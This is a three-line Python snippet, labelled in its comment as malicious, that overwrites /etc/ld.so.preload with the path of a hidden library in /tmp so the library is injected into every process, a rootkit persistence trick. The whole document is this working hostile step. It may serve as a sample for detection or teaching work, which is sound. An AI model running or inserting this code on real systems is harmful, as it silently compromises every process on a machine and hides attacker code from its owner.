# Malicious: registers a library in /etc/ld.so.preload; it is then injected into every process (rootkit trick).
with open("/etc/ld.so.preload", "w") as preload:
    preload.write("/tmp/.libhook.so\n")
